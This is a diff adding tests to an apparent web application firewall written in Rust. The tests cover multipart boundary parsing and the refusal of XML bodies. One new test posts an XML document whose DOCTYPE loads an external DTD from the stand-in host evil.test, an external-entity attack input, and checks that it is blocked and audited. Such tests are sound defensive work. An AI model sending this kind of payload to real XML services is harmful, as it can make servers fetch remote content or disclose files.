@@ -13,11 +13,15 @@ async fn a_quoted_boundary_is_one_and_what_is_in_the_form_is_judged() {
         "multipart/form-data; boundary=\"abc\"",
         "multipart/form-data;boundary=\"abc\"",
         "multipart/form-data; boundary=abc",
+        "multipart/form-data;charset=UTF-8;boundary=abc",
+        "multipart/form-data; boundary=\"abc\"; charset=utf-8",
     ] {
         for (value, status) in [("fine", 200), ("attack", 403)] {
             let body = form("abc", value);
-            let answered = post(&mut plane.client().await, "/", kind, body.as_bytes()).await;
-            assert_eq!(answered.0, status, "{kind} {value}");
+            for body in [format!("\r\n{body}\r\n"), body] {
+                let answered = post(&mut plane.client().await, "/", kind, body.as_bytes()).await;
+                assert_eq!(answered.0, status, "{kind} {body:?}");
+            }
         }
     }
     let spaced = "multipart/form-data; boundary=\"a b:c\"";
@@ -113,5 +117,18 @@ async fn the_audit_line_says_why_a_body_is_not_json() {
             rule["data"].as_str().is_some_and(|data| data.contains("JSON")),
             "{line}"
         );
+    }
+}
+
+#[tokio::test]
+async fn an_xml_document_whose_dtd_lies_elsewhere_is_refused_and_the_audit_line_says_why() {
+    let (origin, plane) = plane("SecRuleEngine On", |_, _| {}).await;
+    let body = "<!DOCTYPE a SYSTEM \"http://evil.test/x.dtd\"><a/>";
+    let answered = post(&mut plane.client().await, "/", "application/xml", body.as_bytes()).await;
+    assert_eq!((answered.0, origin.count()), (400, 0));
+    for line in plane.audit(1).await {
+        let rule = &line["rules"][0];
+        assert_eq!(rule["id"], 200_002);
+        assert_eq!(rule["data"], "its DOCTYPE has an external subset");
     }
 }
